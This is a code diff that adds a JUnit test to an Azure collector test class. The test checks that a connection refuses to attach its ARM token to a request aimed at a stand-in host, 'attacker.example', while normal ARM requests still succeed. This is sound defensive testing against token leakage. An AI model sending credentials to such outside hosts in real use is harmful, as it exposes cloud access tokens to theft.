@@ -171,6 +171,16 @@ class AzureCollectorTest {
         assertThat(arm.requestLog().count("GET", "/managedInstances/contoso-mi$")).isEqualTo(2);
     }
 
+    @Test
+    void theTokenIsNeverSentOutsideArm() {
+        ArmResponse r = connection.send("GET", "https://attacker.example/subscriptions/x?api-version=1", null);
+
+        assertThat(r.status()).isZero();
+        assertThat(r.transportError()).contains("refused to send the ARM token");
+        assertThat(connection.send("GET", arm.baseUrl() + arm.managedInstanceId() + "?api-version=2025-01-01", null)
+                .status()).isEqualTo(200);
+    }
+
     private static <T> T known(Fact<T> fact) {
         assertThat(fact.isKnown()).as(fact.reason()).isTrue();
         return fact.orElse(null);
